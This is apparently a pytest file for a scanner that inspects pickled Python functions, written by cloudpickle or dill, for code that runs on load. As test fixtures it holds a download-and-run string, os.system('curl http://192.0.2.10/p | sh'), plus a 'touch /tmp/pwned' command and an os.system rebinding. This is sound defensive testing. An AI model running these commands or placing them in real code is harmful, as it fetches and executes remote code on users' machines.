"""Functions that travel by value, as cloudpickle and dill write them: judged by when they run."""

import sys

import pytest

from scanner.blob import Blob, BytesWindow
from scanner.examine import examine
from scanner.finding import Severity
from scanner.limits import Limits
from tests.languages.bytecode.interpreters import VERSIONS, needed
from tests.recipes import functions
from tests.recipes.pickles import glob

HELD = "def f(a, b=2):\n    return [os.system(x) for x in a]\n"
CALLED = "def f():\n    return os.system('curl http://192.0.2.10/p | sh')\n"

every_version = pytest.mark.parametrize("version", [v for v in VERSIONS if v != "3.14"])
every_writer = pytest.mark.parametrize("writer", functions.WRITERS)


def reported(data):
    report = examine(Blob(("f.pkl",), BytesWindow(data)), Limits())
    assert report.failure is None
    return {finding.rule for finding in report.findings if finding.severity >= Severity.WARNING}


@every_version
@every_writer
def test_a_function_that_is_only_held_is_quiet(version, writer):
    assert reported(functions.held(needed(version), writer, HELD)) == set()


@every_version
@every_writer
def test_a_function_that_is_called_is_judged_by_what_it_does(version, writer):
    assert "download-and-run" in reported(functions.called(needed(version), writer, CALLED))


def test_globals_may_rebind_a_builtin():
    data = functions.rebound(sys.executable, "len", glob("os", "system"))
    assert "command-on-load" in reported(data)


def test_code_that_makes_no_sense_is_reviewed():
    data = functions.rebound(sys.executable, "len", glob("os", "system"), broken=True)
    assert "code-on-load" in reported(data)


def test_code_is_run_without_a_function():
    data = functions.executed(sys.executable, "import os\ndef f():\n    os.system('touch /tmp/pwned')\nf()\n")
    assert "command-on-load" in reported(data)


@pytest.mark.parametrize("method", ["__setstate__", "__new__", "__hash__"])
def test_what_loading_calls_of_a_class_runs(method):
    data = functions.carried_class(sys.executable, method, CALLED.replace("f()", "f(*rest)"))
    assert "download-and-run" in reported(data)


def test_what_only_its_user_calls_of_a_class_is_quiet():
    assert (
        reported(functions.carried_class(sys.executable, "predict", CALLED.replace("f()", "f(self)")))
        == set()
    )
